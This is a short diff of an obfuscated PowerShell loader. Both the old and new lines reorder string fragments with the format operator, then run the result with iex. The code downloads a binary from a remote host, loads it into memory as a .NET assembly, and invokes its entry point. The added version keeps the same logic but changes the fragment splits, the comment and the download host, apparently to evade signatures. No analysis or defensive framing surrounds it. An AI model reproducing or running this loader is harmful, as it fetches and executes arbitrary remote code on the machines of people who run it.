@@ -1,5 +1,5 @@
-iex ("{1}{2}{0}" -f '.Assembly]::Load($b)
+iex ("{1}{2}{0}" -f 'y]::Load($b)
 $a.EntryPoint.Invoke($null, (, [string[]] @()))
-','# setup 5644 v4
-$b',' = (New-Object Net.WebClient).DownloadData(''http://files.sync-svc.example/loader.bin'')
-$a = [System.Reflection')
+','# maintenance 6573 v4
+$b = (New-Object Net.WebClient).DownloadData(''http://static.metrics-node.example/loader.bin'')
+$a = [System.Reflect','ion.Assembl')
